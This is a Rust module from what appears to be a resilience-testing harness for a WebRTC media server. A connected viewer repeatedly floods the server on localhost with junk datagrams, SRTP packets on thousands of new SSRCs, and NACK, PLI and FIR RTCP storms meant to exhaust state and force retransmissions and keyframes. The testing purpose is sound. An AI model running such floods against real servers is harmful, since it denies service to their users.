//! Storms by a viewer that has connected, and so has the keys.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicUsize, Ordering::Relaxed};
use std::time::{Duration, Instant};

use core_media::rtp::{RtpPacket, is_rtcp, write_header};
use rtc::{Burst, MediaRoute, MuxPort, Peer, PeerEvents, PeerState, SrtpProfile, TrackId, burst};

use super::noise::Noise;
use super::{Budget, CODECS};
use crate::tap::announced;
use crate::{offers, trickle};

/// Connecting takes some 50 ms; this is for a server that stands still.
const PATIENCE: Duration = Duration::from_secs(10);
/// Between two tries to come back.
const PAUSE: Duration = Duration::from_millis(100);
/// Sent between two looks at the clock.
const ROUND: usize = 64;
/// SSRCs of a session. The attacker's libsrtp walks a list of them as well: past this a new session is the worse attack.
const SSRCS: u32 = 10_000;
/// Index of the video in the sections.
const VIDEO: usize = 1;

/// What it sends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Storm {
    /// What is neither STUN nor DTLS nor SRTP, or only begins like it.
    Noise,
    /// RTP, each packet of a new SSRC.
    Srtp,
    /// Reports, each of a new SSRC.
    Srtcp,
    /// Compounds that ask for as many packets as fit.
    Nack,
    Pli,
    Fir,
}

/// Storms, and comes back as a new viewer when it has been ended.
pub(super) fn attack(
    storm: Storm,
    join: &dyn Fn(&str) -> Result<String, String>,
    budget: &mut Budget,
) -> Result<(), String> {
    while !budget.spent() {
        match Insider::connect(join) {
            Ok(insider) => {
                budget.report.sessions += 1;
                insider.storm(storm, budget);
                budget.report.ended += u64::from(insider.state.gone.load(Relaxed));
            }
            Err(reason) if budget.report.sessions == 0 => return Err(reason),
            Err(_) => std::thread::sleep(PAUSE),
        }
    }
    Ok(())
}

/// Dropped in this order: the port is still there while the peer closes.
struct Insider {
    peer: Peer,
    state: Arc<State>,
    /// The server's.
    video_ssrc: u32,
    _port: MuxPort,
}

impl Insider {
    fn connect(join: &dyn Fn(&str) -> Result<String, String>) -> Result<Self, String> {
        let failed = |error: rtc::Error| format!("an attacker cannot connect: {error}");
        let host = IpAddr::V4(Ipv4Addr::LOCALHOST);
        // As a viewer that may send, which libdatachannel wants to hear before it sends RTP.
        let sections = offers::receiving(&CODECS).into_iter();
        let tracks: Vec<String> = sections.map(|section| section.replace("a=recvonly", "a=sendrecv")).collect();
        let state = Arc::new(State::default());
        let offered = trickle::offer(host, &tracks, &SrtpProfile::PREFERENCE, PATIENCE, state.clone());
        let (port, peer, offer) = offered.map_err(failed)?;
        let answer = join(&offer)?;
        super::address(&answer)?;
        trickle::accept(&peer, &answer).map_err(failed)?;
        let deadline = Instant::now() + PATIENCE;
        while state.open.load(Relaxed) < CODECS.len() {
            if Instant::now() > deadline || state.gone.load(Relaxed) {
                return Err("an attacker was not let in".into());
            }
            std::thread::sleep(Duration::from_millis(5));
        }
        let video = announced(&answer).into_iter().find(|(_, line)| *line == VIDEO);
        let video_ssrc = video.map_or(0, |(ssrc, _)| ssrc);
        Ok(Self { peer, state, video_ssrc, _port: port })
    }

    fn storm(&self, storm: Storm, budget: &mut Budget) {
        let mut maker = Maker { storm, insider: self, noise: Noise::new(), number: 0, packet: Vec::new() };
        while !budget.spent() && !self.state.gone.load(Relaxed) && !maker.done() {
            budget.sent(burst(|burst| maker.round(burst, self.peer.track(VIDEO))));
        }
    }
}

struct Maker<'a> {
    storm: Storm,
    insider: &'a Insider,
    noise: Noise,
    number: u32,
    packet: Vec<u8>,
}

impl Maker<'_> {
    fn done(&self) -> bool {
        matches!(self.storm, Storm::Srtp | Storm::Srtcp) && self.number >= SSRCS
    }

    /// Gives how many left.
    fn round(&mut self, burst: &mut Burst, track: TrackId) -> usize {
        let route = if self.storm == Storm::Noise { burst.route(track, 1) } else { None };
        (0..ROUND).filter(|_| self.send(burst, route.as_ref(), track)).count()
    }

    fn send(&mut self, burst: &mut Burst, route: Option<&MediaRoute>, track: TrackId) -> bool {
        self.number = self.number.wrapping_add(1);
        match self.storm {
            Storm::Noise => {
                self.noise.datagram(&mut self.packet);
                let Some(route) = route else { return false };
                burst.put(track, route, |out| out.extend_from_slice(&self.packet));
                return true;
            }
            Storm::Srtp => {
                let header = write_header(false, 96, 0, 0, self.number);
                return burst.send(track, &[&header[..], &[0x55; 20]].concat());
            }
            Storm::Srtcp => self.packet = report(self.number).to_vec(),
            Storm::Nack => self.nacks(),
            Storm::Pli => self.feedback(206, 1, &[]),
            Storm::Fir => self.feedback(206, 4, &self.full_intra_request()),
        }
        burst.send(track, &self.packet)
    }

    /// 18 messages (RFC 4585 §6.2.1) of 16 entries, 17 numbers each: the packets up to the newest.
    fn nacks(&mut self) {
        const MESSAGES: u16 = 18;
        const ENTRIES: u16 = 16;
        let newest = self.insider.state.newest.load(Relaxed) as u16;
        let mut firsts = (1..=MESSAGES * ENTRIES).map(|entry| newest.wrapping_sub(17 * entry));
        self.packet = report(1).to_vec();
        for _ in 0..MESSAGES {
            let entries: Vec<u8> = firsts
                .by_ref()
                .take(usize::from(ENTRIES))
                .flat_map(|first| first.to_be_bytes().into_iter().chain([0xff, 0xff]))
                .collect();
            self.add_feedback(205, 1, &entries);
        }
    }

    /// RFC 5104 §4.3.1; the number tells it from the one before.
    fn full_intra_request(&self) -> [u8; 8] {
        let [a, b, c, d] = self.insider.video_ssrc.to_be_bytes();
        [a, b, c, d, self.number as u8, 0, 0, 0]
    }

    fn feedback(&mut self, kind: u8, format: u8, entries: &[u8]) {
        self.packet = report(1).to_vec();
        self.add_feedback(kind, format, entries);
    }

    fn add_feedback(&mut self, kind: u8, format: u8, entries: &[u8]) {
        let words = 2 + (entries.len() / 4) as u16;
        self.packet.extend([0x80 | format, kind]);
        self.packet.extend(words.to_be_bytes());
        self.packet.extend(1_u32.to_be_bytes());
        self.packet.extend(self.insider.video_ssrc.to_be_bytes());
        self.packet.extend(entries);
    }
}

/// A receiver report without blocks, with which compounds begin (RFC 3550 §6.1).
fn report(ssrc: u32) -> [u8; 8] {
    let [a, b, c, d] = ssrc.to_be_bytes();
    [0x80, 201, 0, 1, a, b, c, d]
}

#[derive(Debug, Default)]
struct State {
    /// How many tracks are.
    open: AtomicUsize,
    gone: AtomicBool,
    /// The newest sequence number of the video.
    newest: AtomicU32,
}

impl PeerEvents for State {
    fn state(&self, state: PeerState) {
        if matches!(state, PeerState::Disconnected | PeerState::Failed | PeerState::Closed) {
            self.gone.store(true, Relaxed);
        }
    }

    fn open(&self, _track: usize) {
        self.open.fetch_add(1, Relaxed);
    }

    fn message(&self, track: usize, packet: &[u8]) {
        if track != VIDEO || is_rtcp(packet) {
            return;
        }
        if let Ok(packet) = RtpPacket::parse(packet) {
            self.newest.store(u32::from(packet.sequence), Relaxed);
        }
    }
}
